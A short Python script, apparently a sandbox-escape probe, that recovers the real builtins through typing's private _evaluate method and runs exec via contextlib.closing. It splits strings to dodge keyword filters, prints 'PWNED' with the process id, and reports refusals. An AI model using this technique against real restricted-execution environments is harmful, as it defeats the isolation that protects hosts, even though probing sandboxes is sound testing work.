# tramp: contextlib.closing calls thing.close() from contextlib's frame: close is partial(exec)
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import contextlib, functools
class T:
    pass
t = T()
t.close = functools.partial(rb["exec"], "print('PWN' + 'ED', __import__('os').getpid())", {})
try:
    with contextlib.closing(t):
        pass
except Exception as e:
    print("refused:", type(e).__name__, e)
